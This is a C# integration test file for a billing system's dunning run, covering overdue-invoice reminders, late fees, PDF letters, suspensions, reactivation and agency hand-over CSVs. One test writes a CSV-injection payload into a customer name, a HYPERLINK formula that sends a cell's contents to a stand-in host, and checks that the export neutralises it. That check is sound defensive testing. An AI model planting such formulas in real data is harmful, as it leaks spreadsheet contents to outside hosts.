using Billing.Catalog;
using Billing.Cli.Commands;
using Billing.Core.Dunning;
using Billing.Integration.Tests.Infrastructure;
using Billing.Integration.Tests.Invoicing;
using Billing.Jobs.Catalog;
using Billing.Core.Notifications;
using Billing.Jobs.Dunning;
using Billing.Jobs.Notifications;
using Billing.Notifications;
using Billing.Notifications.Channels;
using Billing.Storage;
using Billing.Storage.Dunning;
using Dapper;
using NodaTime;
using static Billing.Integration.Tests.Invoicing.ReceivablesWorld;

namespace Billing.Integration.Tests.Dunning;

/// <summary>
/// The dunning run against a real database on the shipped catalogue's ladder: B-1's December invoice
/// INV-2026-000001 (36.00 GBP) is due on 2026-12-15, so the reminder is due on 22 Dec, the second
/// reminder and the 5.00 fee on 29 Dec, the letter on 5 Jan, the suspension on 14 Jan, the agency on 13 Feb.
/// </summary>
public sealed class DunningTests : IDisposable
{
    private static readonly LocalDate Due = new(2026, 12, 15);
    private const string Invoice = "INV-2026-000001";

    private readonly ReceivablesWorld _world = new(("B-1", "447700900950"), ("B-2", "447700900951"));
    private readonly TempDir _agency = new();
    private readonly TempDir _documents = new();

    public DunningTests()
    {
        _world.Bill(December);
    }

    public void Dispose()
    {
        _world.Dispose();
        _agency.Dispose();
        _documents.Dispose();
    }

    private DunningJob Job() => new(_world.Db, new CatalogCache(), () => NotificationTemplates.Load(Path.Combine(Repo.Root, "templates", "notifications")),
        new DunningOptions { BatchSize = 1 }, _agency.Path, Rendering.Letters(_documents.Path), _world.Clock);

    private DunningReport Run(int daysPastDue, bool dryRun = false) => Job().Run(Due.PlusDays(daysPastDue), dryRun, "tests");

    private List<(string Invoice, string Step, string Action, string Outcome, LocalDate AsOf, decimal? Fee)> Actions(string account = "B-1")
    {
        using var c = _world.Open();
        return c.Query<(string, string, string, string, LocalDate, decimal?)>("""
            SELECT i.number, d.step, d.action, d.outcome, d.as_of, d.fee FROM dunning_actions d JOIN invoices i ON i.id = d.invoice_id
            WHERE d.account_id = @account ORDER BY d.as_of, d.created_at, d.step
            """, new { account }).AsList();
    }

    private List<(string Kind, string Key, string Subject)> Notifications(string account = "B-1")
    {
        using var c = _world.Open();
        return c.Query<(string, string, string)>("SELECT kind, dedupe_key, subject FROM notifications WHERE account_id = @account ORDER BY id", new { account }).AsList();
    }

    private (long Charges, long Suspended, long Lifted) Effects()
    {
        using var c = _world.Open();
        return c.QuerySingle<(long, long, long)>("""
            SELECT (SELECT count(*) FROM account_charges), (SELECT count(*) FROM suspensions), (SELECT count(*) FROM suspensions WHERE lifted_on IS NOT NULL)
            """);
    }

    [Fact]
    public async Task A_run_writes_the_days_hand_over_file_only_when_no_other_writer_of_that_date_holds_it_and_then_whole()
    {
        foreach (var day in new[] { 7, 14, 21, 30 })
        {
            Run(day);
        }

        // Another run of 13 February writing the file: the test holds the day's lock as it would.
        using var other = _world.Open();
        using (var holding = other.BeginTransaction())
        {
            DunningStore.LockAgencyFile(holding, Due.PlusDays(60));
            var run = Task.Run(() => Run(60));
            Wait.Until(() =>
            {
                using var c = _world.Open();
                return c.ExecuteScalar<long>("SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND classid = @space AND NOT granted",
                    new { space = DunningStore.AgencyFileLockSpace }) == 1;
            }, "the run to wait for the day's hand-over file");

            Assert.False(File.Exists(Path.Combine(_agency.Path, "agency-2027-02-13.csv")));
            holding.Commit();
            await run;
        }

        Assert.Equal(3, File.ReadAllLines(Path.Combine(_agency.Path, "agency-2027-02-13.csv")).Length); // the header and both hand-overs
    }

    [Fact]
    public void The_December_invoice_is_due_on_15_December_and_both_accounts_owe_36_00()
    {
        using var c = _world.Open();
        Assert.Equal([("B-1", Due, 36.00m), ("B-2", Due, 36.00m)],
            c.Query<(string, LocalDate, decimal)>("SELECT account_id, due_date, total FROM invoices WHERE status = 'issued' ORDER BY account_id").AsList());
    }

    [Fact]
    public void An_unpaid_invoice_goes_through_every_step_on_its_day_with_its_message_fee_suspension_letter_and_hand_over()
    {
        foreach (var day in new[] { 6, 7, 8, 14, 21, 30, 59, 60, 90 })
        {
            Run(day);
        }

        Assert.Equal(
        [
            (Invoice, "reminder", "email", "taken", Due.PlusDays(7), (decimal?)null),
            (Invoice, "late-fee", "fee", "taken", Due.PlusDays(14), 5.00m),
            (Invoice, "second-reminder", "email", "taken", Due.PlusDays(14), null),
            (Invoice, "final-notice", "letter", "taken", Due.PlusDays(21), null),
            (Invoice, "suspend", "suspend", "taken", Due.PlusDays(30), null),
            (Invoice, "agency", "agency", "taken", Due.PlusDays(60), null),
        ], Actions());
        var invoiceId = InvoiceId(Invoice);
        Assert.Equal(
        [
            ("dunning-reminder", $"dunning:{invoiceId}:reminder", $"Reminder: invoice {Invoice} is overdue"),
            ("dunning-second-reminder", $"dunning:{invoiceId}:second-reminder", $"Second reminder: invoice {Invoice} is 14 days overdue"),
            ("dunning-final-notice", $"dunning:{invoiceId}:final-notice", $"Final notice: invoice {Invoice}"),
            ("dunning-suspended", $"dunning-suspended:{invoiceId}:suspend", "Your outgoing service has been suspended"),
        ], Notifications());

        using var c = _world.Open();
        Assert.Contains("A late payment fee of 5.00 GBP will be added to your next invoice.", c.ExecuteScalar<string>(
            "SELECT body FROM notifications WHERE kind = 'dunning-second-reminder' AND account_id = 'B-1'"), StringComparison.Ordinal);
        Assert.Equal(("one-time", 5.00m, "zero", $"Late payment fee: invoice {Invoice}", $"dunning:{Invoice}:late-fee", new LocalDate(2026, 12, 29)),
            c.QuerySingle<(string, decimal, string, string, string, LocalDate)>("SELECT kind, amount, tax_category, description, reference, charge_date FROM account_charges WHERE account_id = 'B-1'"));
        Assert.Equal([("447700900950", Due.PlusDays(30), $"dunning: invoice {Invoice} 30 days overdue")], DunningStore.OpenSuspensions(c, "B-1"));

        var letter = DunningJob.ReadLetter(DunningStore.Letter(c, Invoice, "final-notice")!);
        Assert.Equal(("B-1", "Customer B-1", Invoice, Due, 21, 36.00m, 36.00m, "GBP"),
            (letter.AccountId, letter.Name, letter.Invoice, letter.DueDate, letter.DaysPastDue, letter.InvoiceTotal, letter.Overdue, letter.Currency));

        // B-2 went the same way; the day-60 file hands over both invoices, one row each.
        var file = Path.Combine(_agency.Path, "agency-2027-02-13.csv");
        Assert.Equal(
        [
            string.Join(',', DunningJob.AgencyColumns),
            "B-1,Customer B-1,,,INV-2026-000001,2026-12-01,2026-12-15,60,36.00,GBP,2027-02-13",
            "B-2,Customer B-2,,,INV-2026-000002,2026-12-01,2026-12-15,60,36.00,GBP,2027-02-13",
        ], File.ReadAllLines(file));
    }

    /// <summary>
    /// The agency opens the hand-over file in a spreadsheet: a name or address that begins with =, +, - or @ would be taken
    /// for a formula there (CSV injection: a customer named <c>=HYPERLINK(…)</c> gets a link into the agency's sheet). Such a
    /// text field starts with an apostrophe, which spreadsheets read as "text"; the debt is written to the cent.
    /// </summary>
    [Fact]
    public void A_name_or_address_a_spreadsheet_would_take_for_a_formula_is_written_as_text_and_the_debt_to_the_cent()
    {
        using (var c = _world.Open())
        {
            c.Execute("""UPDATE accounts SET name = '=HYPERLINK("http://x.example/?"&A1)', billing_address = '+44 1 Main St', email = '@b1' WHERE id = 'B-1'""");
        }

        foreach (var day in new[] { 7, 14, 21, 30, 60 })
        {
            Run(day);
        }

        Assert.Equal(
        [
            string.Join(',', DunningJob.AgencyColumns),
            "B-1,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",'+44 1 Main St,'@b1,INV-2026-000001,2026-12-01,2026-12-15,60,36.00,GBP,2027-02-13",
            "B-2,Customer B-2,,,INV-2026-000002,2026-12-01,2026-12-15,60,36.00,GBP,2027-02-13",
        ], File.ReadAllLines(Path.Combine(_agency.Path, "agency-2027-02-13.csv")));
    }

    [Fact]
    public void The_agency_hand_over_file_with_names_addresses_and_debts_is_readable_by_its_owner_only_like_the_letters()
    {
        var folder = Path.Combine(_agency.Path, "agency");
        var job = new DunningJob(_world.Db, new CatalogCache(), () => NotificationTemplates.Load(Path.Combine(Repo.Root, "templates", "notifications")),
            new DunningOptions { BatchSize = 1 }, folder, Rendering.Letters(_documents.Path), _world.Clock);

        var file = job.Run(Due.PlusDays(60), false, "tests").AgencyFile!;

        Assert.Equal(Path.Combine(folder, "agency-2027-02-13.csv"), file);
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(file));
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute, File.GetUnixFileMode(folder));
    }

    private List<(string Number, string Path, long Size, string Sha, Instant At)> Letters()
    {
        using var c = _world.Open();
        return c.Query<(string, string, long, string, Instant)>("SELECT number, path, size_bytes, sha256, rendered_at FROM documents WHERE kind = 'letter' ORDER BY number").AsList();
    }

    [Fact]
    public void A_run_on_day_21_stores_one_letter_pdf_per_invoice_naming_the_invoice_the_overdue_36_00_and_the_customer_and_a_rerun_adds_none()
    {
        Run(21);
        var stored = Letters();

        Run(21);
        Run(22);

        Assert.Equal(["INV-2026-000001.final-notice", "INV-2026-000002.final-notice"], stored.Select(l => l.Number));
        Assert.Equal(stored, Letters()); // nothing drawn, written or recorded again
        foreach (var (number, path, size, sha, _) in stored)
        {
            Assert.Equal(Path.Combine(_documents.Path, "letters", number + ".pdf"), path);
            var bytes = File.ReadAllBytes(path);
            Assert.Equal((size, sha), (bytes.LongLength, Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(bytes))));
            Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(path));
        }

        Assert.Empty(Directory.GetFiles(Path.Combine(_documents.Path, "letters"), "*.tmp"));
        using var pdf = UglyToad.PdfPig.PdfDocument.Open(stored[0].Path);
        var text = string.Join("\n", pdf.GetPages().Select(p => UglyToad.PdfPig.DocumentLayoutAnalysis.TextExtractor.ContentOrderTextExtractor.GetText(p)));
        Assert.Contains("Customer B-1", text, StringComparison.Ordinal);
        Assert.Contains($"Invoice {Invoice}: GBP 36.00 overdue", text, StringComparison.Ordinal);
        Assert.Contains("If we have not received payment by 14 Jan 2027, your outgoing service will be suspended", text, StringComparison.Ordinal);

        // Drawn again from its record, the letter is the stored bytes: the store is left as it is.
        var again = Job().Letter(Invoice, "final-notice")!;
        Assert.False(again.Rewritten);
        Assert.Equal(File.ReadAllBytes(stored[0].Path), again.Pdf);
    }

    /// <summary>
    /// A run killed between writing a letter and renaming it into place leaves NUMBER.pdf.PID.THREAD.tmp (its
    /// transaction rolled back); the run after it takes the step again and must not leave that file for ever.
    /// </summary>
    [Fact]
    public void A_run_after_a_killed_one_removes_the_temporary_letter_the_killed_run_left_and_keeps_that_of_a_running_writer()
    {
        var letters = Path.Combine(_documents.Path, "letters");
        Directory.CreateDirectory(letters);
        var killed = Path.Combine(letters, $"{Invoice}.final-notice.pdf.2147483646.1.tmp"); // above Linux's pid_max: no such process
        var running = Path.Combine(letters, $"INV-2026-000002.final-notice.pdf.{Environment.ProcessId}.9.tmp");
        File.WriteAllBytes(killed, [1]);
        File.WriteAllBytes(running, [1]);

        Run(21);

        Assert.Equal([$"{Invoice}.final-notice.pdf", "INV-2026-000002.final-notice.pdf", Path.GetFileName(running)],
            Directory.GetFiles(letters).Select(Path.GetFileName).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void The_day_21_final_notice_email_carries_the_letter_and_the_file_channel_delivers_a_copy_equal_to_the_stored_pdf()
    {
        Run(7);
        Run(14);
        Run(21);

        using var c = _world.Open();
        Assert.Equal(
        [
            ("dunning-reminder", null, null),
            ("dunning-second-reminder", null, null),
            ("dunning-final-notice", "letter", $"{Invoice}.final-notice"),
        ], c.Query<(string, string?, string?)>("SELECT kind, attachment_kind, attachment_number FROM notifications WHERE account_id = 'B-1' ORDER BY id").AsList());
        var finalNotice = Assert.Single(NotificationStore.List(c, new NotificationFilter(AccountId: "B-1", Kind: "dunning-final-notice")));
        var stored = Letters()[0];
        Assert.Equal((stored.Path, $"{Invoice}.final-notice.pdf", stored.Sha), (finalNotice.AttachmentPath, finalNotice.AttachmentName, finalNotice.AttachmentSha256));

        using var outbox = new TempDir();
        using var channel = new FileChannel(outbox.Path);
        var delivered = new NotificationDelivery(_world.Db, channel, DeliveryRetry.DefaultMaxAttempts, SystemClock.Instance).DeliverDue();

        Assert.Equal(new DeliveryResult(Sent: 6, Retrying: 0, Failed: 0, NoAddress: 0), delivered); // three messages for each of B-1 and B-2
        Assert.Equal(File.ReadAllBytes(stored.Path), File.ReadAllBytes(channel.AttachmentPathOf(finalNotice)));
        Assert.Equal(2, Directory.GetFiles(outbox.Path, "*.pdf").Length); // the two final notices' letters, no other message has one
        Assert.Contains($"Attachment: {Path.GetFileName(channel.AttachmentPathOf(finalNotice))} ({Invoice}.final-notice.pdf, application/pdf)\n",
            File.ReadAllText(channel.PathOf(finalNotice)), StringComparison.Ordinal);
    }

    [Fact]
    public void A_letter_whose_file_was_changed_in_the_store_is_written_again_with_the_same_bytes_as_before()
    {
        Run(21);
        var before = Letters()[0];
        var original = File.ReadAllBytes(before.Path);
        File.WriteAllBytes(before.Path, [1, 2, 3]);

        var again = Job().Letter(Invoice, "final-notice")!;

        Assert.True(again.Rewritten);
        Assert.Equal(original, File.ReadAllBytes(before.Path));
        Assert.Equal((before.Number, before.Path, before.Size, before.Sha), (Letters()[0].Number, Letters()[0].Path, Letters()[0].Size, Letters()[0].Sha));
    }

    [Fact]
    public void Running_the_same_day_twice_does_nothing_new()
    {
        Run(14);
        var (actions, notifications, effects) = (Actions(), Notifications(), Effects());

        var again = Run(14);

        Assert.Empty(again.Applied);
        Assert.Equal(actions, Actions());
        Assert.Equal(notifications, Notifications());
        Assert.Equal(effects, Effects());
        using var c = _world.Open();
        Assert.Equal([(2, 2), (2, 0)], c.Query<(int, int)>("SELECT accounts, accounts_moved FROM dunning_runs ORDER BY id").AsList());
    }

    [Fact]
    public void A_dry_run_shows_the_steps_due_and_records_nothing()
    {
        var report = Run(14, dryRun: true);

        Assert.Equal(6, report.Steps.Count()); // per account: reminder skipped, second reminder and fee taken
        Assert.Equal(new Dictionary<string, int> { ["email"] = 2, ["fee"] = 2 }, report.ActionsTaken);
        Assert.Equal(10.00m, report.Fees["GBP"]);
        Assert.Empty(Actions());
        Assert.Empty(Notifications());
        Assert.Equal((0L, 0L, 0L), Effects());
        using var c = _world.Open();
        Assert.Equal(0, c.ExecuteScalar<long>("SELECT count(*) FROM dunning_runs"));
    }

    [Fact]
    public void A_run_after_a_missed_week_takes_only_the_letter_and_records_the_reminders_and_the_fee_as_skipped()
    {
        Run(23);

        Assert.Equal(
        [
            (Invoice, "final-notice", "letter", "taken", Due.PlusDays(23), (decimal?)null),
            (Invoice, "late-fee", "fee", "skipped", Due.PlusDays(23), null),
            (Invoice, "reminder", "email", "skipped", Due.PlusDays(23), null),
            (Invoice, "second-reminder", "email", "skipped", Due.PlusDays(23), null),
        ], Actions());
        Assert.Equal(["dunning-final-notice"], Notifications().Select(n => n.Kind));
        Assert.Equal(0L, Effects().Charges);
    }

    [Fact]
    public void A_payment_in_full_after_suspension_reactivates_the_account_once_and_the_ladder_stops()
    {
        Run(30);
        _world.Pay("B-1", 36.00m, "BANK-1");

        var report = Run(31);
        Run(60);

        Assert.Equal(["B-1"], report.Reactivated);
        using var c = _world.Open();
        Assert.Empty(DunningStore.OpenSuspensions(c, "B-1"));
        Assert.Equal(("nothing overdue any more", Due.PlusDays(31)), c.QuerySingle<(string, LocalDate)>("SELECT lifted_reason, lifted_on FROM suspensions WHERE account_id = 'B-1'"));
        Assert.Equal(["dunning-suspended", "dunning-reactivated"], Notifications().Select(n => n.Kind)); // day 30 is the first run: the letter was skipped
        Assert.DoesNotContain(Actions(), a => a.Step == "agency");
        Assert.Contains(Actions("B-2"), a => a.Step == "agency"); // B-2 did not pay
        Assert.Equal(["reactivated", "suspended"], DunningStore.History(c, "B-1", 2).Select(h => h.Event));
    }

    [Fact]
    public void A_run_of_an_earlier_date_requeued_after_the_suspension_does_not_lift_it_on_a_day_before_it_began()
    {
        Run(30);                               // suspended on 14 January
        _world.Pay("B-1", 36.00m, "BANK-1");

        var requeued = Run(20);                // the failed run of 4 January, run again from the dashboard
        Assert.Empty(requeued.Reactivated);
        using (var c = _world.Open())
        {
            Assert.Equal(0L, c.ExecuteScalar<long>("SELECT count(*) FROM suspensions WHERE account_id = 'B-1' AND lifted_on IS NOT NULL"));
        }

        Assert.Equal(["B-1"], Run(31).Reactivated);
        using var conn = _world.Open();
        Assert.Equal((Due.PlusDays(30), Due.PlusDays(31)), conn.QuerySingle<(LocalDate, LocalDate)>("SELECT suspended_on, lifted_on FROM suspensions WHERE account_id = 'B-1'"));
    }

    [Fact]
    public void A_partial_payment_of_30_00_keeps_the_account_suspended_and_a_credit_note_for_the_6_00_left_reactivates_it()
    {
        Run(30);
        _world.Pay("B-1", 30.00m, "BANK-1");
        Assert.Empty(Run(31).Reactivated);

        var note = _world.Receivables().IssueCreditNote(Invoice, 6.00m, null, "goodwill", "tests");
        Assert.Null(note.Refusal);

        Assert.Equal(["B-1"], Run(32).Reactivated);
    }

    [Fact]
    public void A_promise_to_pay_holds_the_ladder_through_its_date_and_a_disputed_invoice_is_out_of_it_until_released()
    {
        using (var c = _world.Open())
        {
            Assert.True(DunningStore.Pause(c, "B-1", Due.PlusDays(10), "pays on the 25th", "tests"));
            Assert.True(DunningStore.Hold(c, "INV-2026-000002", "disputes the roaming charges", "tests"));
        }

        Run(7);
        Run(10);
        Assert.Empty(Actions());
        Assert.Empty(Actions("B-2"));

        Run(11);
        Assert.Equal([(Invoice, "reminder", "email", "taken", Due.PlusDays(11), (decimal?)null)], Actions());

        using (var c = _world.Open())
        {
            Assert.True(DunningStore.Release(c, "INV-2026-000002", "tests"));
        }

        Run(12);
        Assert.Equal([("INV-2026-000002", "reminder", "email", "taken", Due.PlusDays(12), (decimal?)null)], Actions("B-2"));
    }

    [Fact]
    public async Task Two_runs_of_the_same_day_at_once_take_each_step_once()
    {
        Task<DunningReport>[] runs;
        using (var blocker = _world.Open())
        using (var tx = blocker.BeginTransaction())
        using (var watcher = _world.Open())
        {
            // Both runs decide from the same snapshot, then queue on B-1's row, which this test holds.
            blocker.Execute("SELECT 1 FROM accounts WHERE id = 'B-1' FOR NO KEY UPDATE", transaction: tx);
            runs = [Task.Run(() => Run(30)), Task.Run(() => Run(30))];
            Wait.Until(() => watcher.ExecuteScalar<long>("""
                SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND wait_event_type = 'Lock' AND pid <> pg_backend_pid()
                """) == 2, "both runs to wait for B-1", TimeSpan.FromMinutes(1));
            tx.Rollback();
        }

        var reports = await Task.WhenAll(runs);

        Assert.Equal(10, reports.Sum(r => r.Steps.Count())); // 5 steps of each of the two invoices, each recorded by exactly one run
        Assert.Equal(5, Actions().Count);
        Assert.Equal(5, Actions("B-2").Count);
        Assert.Equal(["dunning-suspended"], Notifications().Select(n => n.Kind)); // the letter, passed over on day 30, was skipped
        Assert.Equal((0L, 2L, 0L), Effects()); // the fee was skipped too; one suspension per subscription
    }

    [Fact]
    public void The_late_fee_is_billed_on_the_next_invoice_as_a_one_time_charge_without_VAT()
    {
        Run(14);

        var january = _world.Bill(January);

        Assert.Contains(("one-time", $"Late payment fee: invoice {Invoice}", 5.00m), _world.Lines(january[0]));
    }

    [Fact]
    public void A_suspended_account_that_pays_in_full_is_reactivated_even_when_the_catalogue_in_force_has_no_ladder_any_more()
    {
        Run(30);
        using (var c = _world.Open())
        {
            // From 1 February 2027 a catalogue without dunning.csv: nobody is chased any more, but nobody is kept barred either.
            var files = CatalogSource.ReadFiles(RatingData.TemplateCatalog).Where(f => f.Key != "dunning.csv").ToDictionary(f => f.Key, f => f.Value);
            CatalogStore.Save(c, "no-ladder", CatalogSource.Native, "no-ladder", Instant.FromUtc(2027, 2, 1, 0, 0), files, new Dictionary<string, string>(), "tests");
        }

        _world.Pay("B-1", 36.00m, "BANK-1");
        var report = Run(50);

        Assert.Equal(["B-1"], report.Reactivated);
        Assert.EndsWith("nobody is chased (load a catalogue with one, see README); reactivated: 1 account(s).", DunningCommands.Summary(report), StringComparison.Ordinal);
        using var conn = _world.Open();
        Assert.Empty(DunningStore.OpenSuspensions(conn, "B-1"));
        Assert.Single(DunningStore.OpenSuspensions(conn, "B-2")); // B-2 did not pay: it stays suspended, and no step is taken for it
        Assert.DoesNotContain(Actions("B-2"), a => a.AsOf == Due.PlusDays(50));
        Assert.Equal(["dunning-suspended", "dunning-reactivated"], Notifications().Select(n => n.Kind));
    }

    [Fact]
    public void Aging_on_31_December_shows_the_36_00_December_debts_as_they_stood_then_not_January_s_invoices_or_a_payment_of_2_January()
    {
        _world.Bill(January);                  // 18.00 each, issued on 1 January
        _world.Pay("B-1", 36.00m, "BANK-1");   // paid on 2 January: settles December's

        using var c = _world.Open();
        string Line(AgingLine l) => $"{l.AccountId} {string.Join(' ', Aging.Buckets.Select(b => l.Buckets[b].ToString("0.00", System.Globalization.CultureInfo.InvariantCulture)))}";
        var december = AgingCommands.Read(c, new LocalDate(2026, 12, 31));
        var january = AgingCommands.Read(c, new LocalDate(2027, 1, 5));

        Assert.Equal(["B-1 0.00 36.00 0.00 0.00 0.00", "B-2 0.00 36.00 0.00 0.00 0.00", " 0.00 72.00 0.00 0.00 0.00"], december.Accounts.Concat(december.Totals).Select(Line));
        Assert.Equal(["B-1 18.00 0.00 0.00 0.00 0.00", "B-2 18.00 36.00 0.00 0.00 0.00", " 36.00 36.00 0.00 0.00 0.00"], january.Accounts.Concat(january.Totals).Select(Line));
    }

    private long InvoiceId(string number)
    {
        using var c = _world.Open();
        return c.ExecuteScalar<long>("SELECT id FROM invoices WHERE number = @number", new { number });
    }
}
